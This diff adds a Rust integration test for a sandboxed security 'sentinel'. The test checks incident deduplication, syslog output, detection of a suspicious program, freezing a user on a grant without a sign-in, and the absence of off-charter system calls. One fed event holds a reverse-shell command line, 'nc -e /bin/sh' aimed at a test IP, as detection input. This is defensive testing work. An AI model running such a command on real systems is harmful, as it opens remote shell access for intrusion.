@@ -1,0 +1,236 @@
+//! The real sentinel in its real walls: a normal load, incidents told, and not one call off its
+//! charter. This program is its own compartment: birth re-executes it.
+#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing)]
+
+use compartment::policy::Verdict;
+use compartment::walls::{Wall, walls};
+use compartment::{Birth, House, Notices, Policy, spawn};
+use evidence::{Author, Body, Word};
+use rustix::event::{PollFd, PollFlags, poll};
+use std::process::ExitCode;
+use std::sync::{Arc, Mutex};
+use std::thread;
+use std::time::Duration;
+use terms::{GrantId, InstanceId, Kind, TenantId, UserId};
+use wire::control::{Order, Report, Start};
+use wire::identity::{FromSentinel, ToSentinel, Whose};
+use wire::ledger::{FromLedger, ToLedger};
+use wire::sentinel::{Feed, FromAdmin, Seen, Source, ToAdmin};
+use wire::{Channel, Label};
+
+const LIMIT: Duration = Duration::from_secs(20);
+const ACCESS: InstanceId = InstanceId([9; 6]);
+const PERSON: (TenantId, UserId) = (TenantId([1; 8]), UserId([2; 8]));
+
+fn main() -> ExitCode {
+    let words: Vec<String> = std::env::args().collect();
+    if words.first().map(String::as_str) == Some("sekisho") {
+        return sentinel::run(House::begin().unwrap());
+    }
+    if words.iter().any(|word| word == "--list") {
+        println!("jailed: test");
+        return ExitCode::SUCCESS;
+    }
+    if !walls().granted.contains(&Wall::Notices) {
+        println!("absent: this kernel gives no listener for refused calls; nothing to hear");
+        return ExitCode::SUCCESS;
+    }
+    let folder = std::env::temp_dir().join(format!("sentinel-jailed-{}", std::process::id()));
+    std::fs::create_dir_all(&folder).unwrap();
+    if walls().granted.contains(&Wall::OwnUser) {
+        let user = Some(64_000 + Kind::Sentinel.number());
+        std::os::unix::fs::chown(&folder, user, user).unwrap();
+    }
+    live(folder.to_str().unwrap());
+    std::fs::remove_dir_all(&folder).unwrap();
+    println!("test result: ok. 1 passed; 0 failed");
+    ExitCode::SUCCESS
+}
+
+/// Calls that the sentinel was not meant to make.
+fn listen(notices: Notices, heard: Arc<Mutex<Vec<String>>>) {
+    let policy = Policy::of("sentinel").unwrap();
+    thread::spawn(move || {
+        loop {
+            let mut fds = [PollFd::new(&notices, PollFlags::IN)];
+            poll(&mut fds, None).unwrap();
+            if !fds[0].revents().contains(PollFlags::IN) {
+                return;
+            }
+            let Ok(Some(notice)) = notices.receive() else { continue };
+            if policy.judge(notice.number) == Verdict::Witness {
+                notices.continue_(&notice).unwrap();
+            } else {
+                heard.lock().unwrap().push(format!("{} {:x?}", notice.call, notice.args));
+                notices.deny(&notice, 1).unwrap();
+            }
+        }
+    });
+}
+
+fn join(control: &Channel, kind: Kind) -> Channel {
+    let (one, other) = Channel::pair().unwrap();
+    let label = Label { instance: InstanceId([kind.number() as u8; 6]), kind, person: None };
+    control.send(0, &Order::Join(label), &[other.into()]).unwrap();
+    one
+}
+
+fn feed(control: &Channel, feed: Feed) {
+    control.send(0, &Order::Feed(feed), &[]).unwrap();
+}
+
+/// The next incident that the warden would hear; other words are passed over.
+fn next_incident(control: &Channel) -> wire::sentinel::Incident {
+    loop {
+        if let Report::Incident(incident) = control.receive(Some(LIMIT)).unwrap().read().unwrap() {
+            return incident;
+        }
+    }
+}
+
+fn live(folder: &str) {
+    let start = Start {
+        instance: InstanceId([5; 6]),
+        kind_word: "sentinel".to_owned(),
+        folder: Some(folder.to_owned()),
+        ..Start::default()
+    };
+    let (control, theirs) = Channel::pair().unwrap();
+    control.send(0, &Order::Begin(start), &[]).unwrap();
+    let spawned = spawn(Birth {
+        kind: "sentinel",
+        instance: None,
+        user: compartment::is_root().then_some(64_000 + Kind::Sentinel.number()),
+        host_network: false,
+        control: theirs.into(),
+        more: Vec::new(),
+        environment: Vec::new(),
+    })
+    .unwrap();
+    let mut frame = control.receive(Some(LIMIT)).unwrap();
+    let Report::Jailed { missing_walls } = frame.read().unwrap() else { panic!() };
+    println!("missing walls: {missing_walls:?}");
+    let heard = Arc::new(Mutex::new(Vec::new()));
+    listen(Notices::new(frame.descriptors.pop().unwrap()), heard.clone());
+    let ready = control.receive(Some(LIMIT)).unwrap();
+    assert!(matches!(ready.read().unwrap(), Report::Ready { author: Some(_), .. }));
+    load(&control);
+    control.send(0, &Order::Stop, &[]).unwrap();
+    let mut ended = [PollFd::new(&spawned.pidfd, PollFlags::IN)];
+    let limit = rustix::event::Timespec { tv_sec: 10, tv_nsec: 0 };
+    assert_eq!(poll(&mut ended, Some(&limit)).unwrap(), 1, "the sentinel did not stop");
+    assert_eq!(*heard.lock().unwrap(), Vec::<String>::new(), "calls off charter");
+    assert!(std::fs::metadata(format!("{folder}/hours")).unwrap().len() > 0);
+}
+
+fn load(control: &Channel) {
+    // A source that is a socket: the host's log.
+    let (log, theirs) = std::os::unix::net::UnixDatagram::pair().unwrap();
+    log.set_read_timeout(Some(LIMIT)).unwrap();
+    let syslog = Order::Feed(Feed::Source { source: Source::Syslog, missing: None });
+    control.send(0, &syslog, &[theirs.into()]).unwrap();
+    let missing = Some("not here".to_owned());
+    feed(control, Feed::Source { source: Source::Audit, missing });
+    let identity = join(control, Kind::Identity);
+    let asked = identity.receive(Some(LIMIT)).unwrap();
+    assert!(matches!(asked.read().unwrap(), FromSentinel::Decoys));
+    identity.send(asked.call, &ToSentinel::Decoys(vec![PERSON]), &[]).unwrap();
+
+    // A flood of ten thousand equal refusals is one incident, and one line.
+    for _ in 0..10_000 {
+        feed(
+            control,
+            Feed::Raw {
+                at_ms: compartment::now_ms(),
+                instance: ACCESS,
+                kind: Kind::Access,
+                pid: 7,
+                call: "execve".to_owned(),
+                what: "refused".to_owned(),
+            },
+        );
+    }
+    let incident = next_incident(control);
+    assert_eq!((incident.cause.as_str(), incident.count), ("off-charter", 1));
+    let mut line = [0u8; 1_024];
+    let count = log.recv(&mut line).unwrap();
+    let line = String::from_utf8_lossy(&line[..count]).into_owned();
+    assert!(line.starts_with("<81>1 ") && line.contains("off-charter"), "{line}");
+    println!("ok  a flood is one incident, told in {} ms", incident.after_ms);
+
+    // A program in our tree, and what its words look like.
+    feed(
+        control,
+        Feed::Seen(Seen {
+            at_ms: compartment::now_ms(),
+            pid: 4_242,
+            is_ours: true,
+            image: "/usr/bin/nc".to_owned(),
+            command_line: "nc -e /bin/sh 192.0.2.1 9".to_owned(),
+            ..Seen::default()
+        }),
+    );
+    assert_eq!(next_incident(control).cause, "program");
+    let rule = next_incident(control);
+    assert_eq!(rule.rule.as_deref(), Some("7f734ed0-4f47-46c0-837f-6ee62505abd9"));
+
+    // The stream: a grant without a sign-in freezes the person; our own entries come in.
+    let ledger = join(control, Kind::Ledger);
+    let author = |kind, number: u8| Author::new(kind, InstanceId([number; 6]), &[number; 32]);
+    let (mut warden, mut identities) = (author(Kind::Warden, 1), author(Kind::Identity, 2));
+    let version = Word::new("1");
+    let (instance, kind) = (ACCESS, Kind::Access);
+    let born = Body::ProcessStart {
+        instance,
+        kind,
+        pid: 7,
+        version,
+        zygote: None,
+        key: None,
+        serves: None,
+    };
+    let (tenant, user) = (PERSON.0, UserId([3; 8]));
+    let granted =
+        Body::Grant { grant: GrantId([4; 16]), instance, tenant, user, until_ms: u64::MAX };
+    let news = vec![warden.sign(1, born).unwrap(), identities.sign(2, granted).unwrap()];
+    let mut sent = false;
+    let mut appended = 0;
+    while !sent || appended == 0 {
+        let frame = ledger.receive(Some(LIMIT)).unwrap();
+        match frame.read().unwrap() {
+            ToLedger::Follow { from_index: u64::MAX } => {
+                let answer = FromLedger::Followed { first_index: 0, entries: Vec::new() };
+                ledger.send(frame.call, &answer, &[]).unwrap();
+            }
+            ToLedger::Follow { from_index: 0 } => {
+                let answer = FromLedger::Followed { first_index: 0, entries: news.clone() };
+                ledger.send(frame.call, &answer, &[]).unwrap();
+                sent = true;
+            }
+            ToLedger::Append { entries, .. } => {
+                let first = evidence::Frame::parse(&entries[0]).unwrap().entry;
+                assert!(matches!(first.body, Body::Incident { .. }));
+                appended += entries.len();
+                ledger.send(frame.call, &FromLedger::Taken { first_index: 2 }, &[]).unwrap();
+            }
+            _ => {}
+        }
+    }
+    assert_eq!(next_incident(control).cause, "no-sign-in");
+    loop {
+        let frame = identity.receive(Some(LIMIT)).unwrap();
+        if let FromSentinel::Freeze(whose) = frame.read().unwrap() {
+            assert_eq!(whose, Whose::Person(tenant, user));
+            break;
+        }
+    }
+    println!("ok  a grant without a sign-in freezes the person");
+
+    control.send(0, &Order::Pulse, &[]).unwrap();
+    while !matches!(control.receive(Some(LIMIT)).unwrap().read().unwrap(), Report::Alive) {}
+    let mut admin = join(control, Kind::Admin);
+    let (ToAdmin::Status(status), _) = admin.ask(&FromAdmin::Status, &[], LIMIT).unwrap();
+    assert!(status.events >= 10_003 && status.decoys == 1, "{status:?}");
+    let audit = status.sources.iter().find(|(source, _)| *source == Source::Audit).unwrap();
+    assert_eq!(audit.1.as_deref(), Some("not here"));
+}
